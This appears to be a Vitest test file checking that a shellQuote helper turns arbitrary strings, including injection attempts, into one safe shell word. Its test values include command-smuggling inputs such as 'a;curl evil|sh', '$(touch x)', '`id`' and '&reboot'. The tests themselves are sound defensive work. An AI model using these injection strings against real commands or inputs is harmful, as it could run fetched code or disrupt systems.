import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { shellQuote } from "../../../src/base/text/shell-quote.ts";

const values = [
  "v_1",
  "6f1c9d52e0b84b7f",
  "a;curl evil|sh",
  "$(touch x)",
  "`id`",
  "it's",
  "''",
  "a b\tc",
  "~root",
  "*",
  "!x",
  "&reboot",
  "https://host.example/v?a=1&PATH=/evil;x",
  '"quoted"',
  "back\\slash",
  "-rf",
  "#x",
  "",
  "two\nlines",
];

test.each(values)("quotes %j as one shell word with the same value", (value) => {
  const script = `printf %s ${shellQuote(value)}`;
  expect(execFileSync("/bin/sh", ["-c", script], { encoding: "utf8" })).toBe(value);
  expect(
    execFileSync("/bin/sh", ["-c", `X=${shellQuote(value)}; printf %s "$X"`], { encoding: "utf8" }),
  ).toBe(value);
});

test("does not quote a value that needs no quotes", () => {
  expect(shellQuote("v_1-2.3:4")).toBe("v_1-2.3:4");
});
